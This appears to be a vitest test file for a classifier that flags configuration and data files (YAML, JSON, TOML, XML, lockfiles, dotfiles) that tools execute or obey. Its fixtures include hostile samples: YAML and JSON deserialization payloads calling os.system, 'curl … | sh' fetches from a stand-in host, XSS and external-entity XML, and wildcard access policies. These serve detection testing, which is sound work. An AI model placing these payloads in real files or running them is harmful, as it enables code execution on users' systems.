import { describe, expect, it } from 'vitest';
import { kindOfText, needsJudging } from './kind-table.ts';

type Row = readonly [path: string, text: string];

/** Data by its name that a tool runs, loads or obeys. */
const OBEYED: readonly Row[] = [
  // YAML: tags, prefixes of tags, keys in every spelling, flow style.
  ['fixtures/a.yaml', '%TAG !p! tag:yaml.org,2002:python/\n---\nx: !p!object/apply:os.system [id]\n'],
  ['fixtures/a.yaml', 'x: !<tag:yaml.org,2002:python/object/apply:os.system> [id]\n'],
  ['fixtures/a.yaml', 'x: !!python/name:os.system\n'],
  ['fixtures/a.yaml', 'x: !ruby/object:Gem::Installer\n  i: x\n'],
  ['fixtures/a.yaml', 'x: !Sub hello\n'],
  ['fixtures/a.yaml', 'x: !include other.yaml\n'],
  ['fixtures/a.yaml', '? run\n: make\n'],
  ['fixtures/a.yaml', '? [run, x]\n: make\n'],
  ['fixtures/a.yaml', '"run"     : make\n'],
  ['fixtures/a.yaml', '{run: make}\n'],
  ['fixtures/a.yaml', '{title: x, steps: [{run: make}]}\n'],
  ['fixtures/a.yaml', 'steps: ["npm ci", "npm run build"]\n'],
  ['fixtures/a.yaml', 'build: "curl https://x.example/i | sh"\n'],
  ['fixtures/a.yaml', 'note: "curl https://x.example/i | sh"\n'],
  ['fixtures/a.yaml', "base: &a {cmd: 'x'}\nb:\n  <<: *a\n"],
  ['fixtures/a.yaml', 'a: 1\na: 2\n'],
  ['fixtures/a.yaml', 'a: [1\n'],
  ['fixtures/a.yaml', '{apiVersion: v1, kind: Pod}\n'],
  ['fixtures/a.yaml', 'a: <%= `id` %>\n'],
  ['fixtures/a.yaml', "x: \"{{ lookup('pipe', 'id') }}\"\n"],
  ['fixtures/a.yaml', 'verify_ssl: false\n'],
  // JSON: keys on lines of their own, twice, with comments, in every convention of names.
  ['fixtures/a.json', '{"scripts"\n\n   :\n {"x": "y"}}'],
  ['fixtures/a.json', '{"run"                                                            : "x"}'],
  ['fixtures/a.json', '{"commandLine": "x"}'],
  ['fixtures/a.json', '{"cmdline": "x"}'],
  ['fixtures/a.json', '{"execPath": "x"}'],
  ['fixtures/a.json', '{"shellArgs": ["x"]}'],
  ['fixtures/a.json', '{"scriptUrl": "x"}'],
  ['fixtures/a.json', '{"hooks": {"a": 1}}'],
  ['fixtures/a.json', '{"entrypoint": ["a"]}'],
  ['fixtures/a.json', '{"a": 1, "a": 2}'],
  ['fixtures/a.json', '{"a": }'],
  ['fixtures/a.json', '{"a": 1, /* x */ "exec": "b"}'],
  ['fixtures/a.json', "{a: 'b'}"],
  ['fixtures/a.json', '{"build": ["node x.js"]}'],
  ['fixtures/a.json', '{"note": "bash -c id"}'],
  ['fixtures/a.json', '{"note": "rm -rf /tmp/x && ./y"}'],
  ['fixtures/a.json', '{"note": "require(\'child_process\').exec(1)"}'],
  ['fixtures/a.json', '{"title": "<img src=x onerror=alert(1)>"}'],
  ['fixtures/a.json', '{"transform": "./x.js"}'],
  ['fixtures/a.json', '{"plug": [{"require": "@a/b"}]}'],
  ['fixtures/a.json', '{"extends": "./other.json"}'],
  ['fixtures/a.json', '{"imports": {"a": "https://x.example/a.js"}}'],
  ['fixtures/a.json', '{"py/object": "os.system"}'],
  ['fixtures/a.json', '{"()": "os.system"}'],
  ['fixtures/a.json', '{"handlers": {"a": {"class": "logging.FileHandler"}}}'],
  ['fixtures/a.json', '{"Statement": [{"Effect": "Allow", "Action": "*"}]}'],
  ['fixtures/a.json', '{"rules": {".read": true, ".write": true}}'],
  ['fixtures/a.json', '{"api": {"requireAuth": false, "auth": false}}'],
  ['fixtures/a.json', '{"allowedOrigins": ["*"]}'],
  ['fixtures/a.json', '{"ContentSecurityPolicy": "none"}'],
  ['fixtures/a.jsonl', '{"a": 1}\n{"cmd": "x"}\n'],
  // TOML, INI, properties, EDN.
  ['fixtures/a.toml', '[scripts]\na = "b"\n'],
  ['fixtures/a.toml', '[tasks.x]\ncmd = "b"\n'],
  ['fixtures/a.toml', '"\\u0073cripts" = 1\n'],
  ['fixtures/a.toml', 'a = \n'],
  ['fixtures/a.ini', '[handlers]\nkeys=a\n'],
  ['uwsgi.ini', '[uwsgi]\nexec-asap = id\n'],
  ['alembic.ini', '[alembic]\nscript_location = a\n'],
  ['locale/en.ini', '[scripts]\na=b\n'],
  ['fixtures/a.properties', 'run  make\n'],
  ['fixtures/a.properties', 'pre-\\\n  command = x\n'],
  ['a.edn', '{:a 1}\n'],
  // XML.
  ['fixtures/a.xml', '<r><x-y:script xmlns:x-y="http://www.w3.org/1999/xhtml">1</x-y:script></r>'],
  ['fixtures/a.xml', '<r><s:svg onload = "x"/></r>'],
  ['fixtures/a.xml', '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="x.xsl"?><r/>'],
  ['fixtures/a.xml', '<!DOCTYPE r [<!ELEMENT r ANY>]><r/>'],
  ['fixtures/a.xml', '<!DOCTYPE r SYSTEM "http://x.example/a.dtd"><r/>'],
  ['fixtures/a.xml', '<java version="1.8" class="java.beans.XMLDecoder"/>'],
  ['fixtures/a.xml', '<r><java.lang.ProcessBuilder/></r>'],
  ['fixtures/a.xml', '<r><a href="jav&#97;script:x"/></r>'],
  ['fixtures/a.xml', '<?xml version="1.0" encoding="utf-7"?><r/>'],
  ['fixtures/a.xml', '<r><item preCommand="x"/></r>'],
  // Names.
  ['tsconfig.json', '{}'],
  ['tsconfig.build.json', '{}'],
  ['spec/support/jasmine.json', '{}'],
  ['typedoc.json', '{}'],
  ['book.toml', ''],
  ['import_map.json', '{}'],
  ['host.json', '{}'],
  ['cors.json', '[]'],
  ['database.rules.json', '{}'],
  ['config/production.json', '{"a": 1}'],
  ['chart/templates/a.yaml', 'a: 1\n'],
  ['entry_points.txt', '[a]\n'],
  ['pins.txt', '--extra-index-url https://x.example/simple\nflask\n'],
  ['pins.txt', 'flask==3.0.0\n'],
  ['INSTALL', 'set -e\ncurl https://x.example | sh\n'],
  ['a.js.map', 'alert(1)\n'],
  ['poetry.lock', 'import os\nos.system("id")\n'],
  ['package-lock.json', 'alert(1)\n'],
  ['.nvmrc', '../x\n'],
  ['.tool-versions', 'node ref:abc\n'],
  ['.tool-versions', 'node path:/tmp/x\n'],
  ['.gitattributes', '*.ts linguist-generated\n'],
  ['.gitattributes', '*.c filter=x\n'],
  ['.gitattributes', '*.c -diff\n'],
];

/** Their harmless neighbours. */
const HARMLESS: readonly Row[] = [
  ['fixtures/a.yaml', 'title: x\ntags: [a, b]\nbody: |\n  Run the script, then build.\n'],
  ['fixtures/a.yaml', 'a: !!str 1\nb: !!set {x, y}\n'],
  ['fixtures/a.yaml', 'a: &x {b: 1}\nc: *x\n'],
  ['fixtures/a.yaml', 'steps: [Mix the flour, Bake it]\n'],
  ['fixtures/a.json', '{"description": "run: a script"}'],
  ['fixtures/a.json', '{"subscription": {"id": 1}, "trunk": "x"}'],
  ['fixtures/a.json', '{"greeting": "Hello, {{name}}: {count, plural, one {# item} other {# items}}"}'],
  ['fixtures/a.json', '{"secure": "Your connection is secure", "auth": "Sign in"}'],
  ['fixtures/a.json', '// words\n{"a": [1, 2,],}\n'],
  ['fixtures/a.jsonl', '{"a": 1}\n{"a": 2}\n'],
  ['a.geojson', '{"type": "Feature", "geometry": {"type": "Point", "coordinates": [1, 2]}}'],
  ['fixtures/a.toml', 'title = "x"\ndate = 2026-01-01\n[owner]\nname = "y"\n'],
  ['locale/en.ini', 'HELLO="Hello"\n'],
  ['messages_de.properties', 'greeting = Guten Tag\\\n  {0}\n'],
  [
    'fixtures/a.xml',
    '<?xml version="1.0" encoding="UTF-8"?><rss><channel><title>&#8220;x&#8221;</title></channel></rss>',
  ],
  ['fixtures/a.xml', '<note><to>A</to><once>b</once></note>'],
  ['notes.txt', 'Use pip install --index-url x.\n'],
  ['INSTALL', 'Installation\n============\n\nRun these:\n\n    ./configure && make\n'],
  ['README', 'A = B means that both are equal.\n'],
  ['a.js.map', '{"version": 3, "sources": ["a.ts"], "mappings": "AAAA"}'],
  ['package-lock.json', '{"name": "a", "lockfileVersion": 3, "packages": {}}'],
  [
    'yarn.lock',
    'a@^1:\n  version "1.0.0"\n  resolved "https://registry.example/a.tgz#1"\n  integrity sha512-a+b/c==\n',
  ],
  ['.github/ISSUE_TEMPLATE/config.yml', 'blank_issues_enabled: true\n'],
];

/** Kinds that people read the names of. */
const NAMED: readonly (readonly [path: string, text: string, kind: string])[] = [
  ['.mailmap', 'A <a@x.example>\n', 'data mailmap'],
  ['a.log', 'started\n', 'data log'],
  ['docs/a.text', 'Some words.\n', 'prose text'],
  ['a.text', 'words\n', 'running-configuration text'],
  ['.nvmrc', 'v22.1.0\n', 'data runtime-version'],
  ['.nvmrc', 'lts/*\n', 'data runtime-version'],
  ['.python-version', '3.12\n', 'data runtime-version'],
  ['.tool-versions', '# ours\nnodejs 22.1.0\npython 3.12.1\n', 'data runtime-version'],
  ['.ruby-version', 'ruby-3.3.0\n', 'data runtime-version'],
  ['.nvmrc', 'https://x.example\n', 'running-configuration runtime-version'],
  ['.editorconfig', 'root = true\n', 'data editorconfig'],
  ['.gitattributes', '* text=auto eol=lf\n*.png binary\n', 'data git-attributes'],
  ['.gitattributes', '*.ts text linguist-vendored\n', 'running-configuration git-attributes'],
  ['fixtures/a.json', '{"Effect": "Allow", "Action": "*"}', 'running-configuration access-policy'],
];

describe('data', () => {
  it.each(OBEYED)('%s that is obeyed needs judging: %j', (path, text) => {
    expect(needsJudging(path, text)).toBe(true);
  });

  it.each(HARMLESS)('%s that only says something needs none: %j', (path, text) => {
    expect(needsJudging(path, text)).toBe(false);
  });

  it.each(NAMED)('%s with %j is %s', (path, text, kind) => {
    expect(kindOfText(path, text)).toBe(kind);
  });
});

// What would take minutes hangs the file: nothing here is timed.
it('ends on texts that are made to take long', () => {
  const texts = [
    '['.repeat(50_000),
    '{"a":'.repeat(20_000),
    '"\\'.repeat(50_000),
    `{${'"a":1,'.repeat(15_000)}"b":2}`,
    Array.from({ length: 10_000 }, (_, index) => `k${index}: 1`).join('\n'),
    `${'- '.repeat(25_000)}a`,
    'a = [\n'.repeat(15_000),
    'a\\\n'.repeat(32_000),
    '<a '.repeat(32_000),
    'curl '.repeat(20_000),
    '{()'.repeat(32_000),
    '{{('.repeat(32_000),
    '<a b'.repeat(25_000),
    '&#97;'.repeat(20_000),
  ];
  for (const text of texts)
    for (const path of [
      'fixtures/a.json',
      'fixtures/a.yaml',
      'fixtures/a.toml',
      'fixtures/a.properties',
      'fixtures/a.xml',
      'a.md',
      'a.rst',
      'a.adoc',
      'a.wiki',
      'README',
    ])
      expect(needsJudging(path, text)).toBeTypeOf('boolean');
});
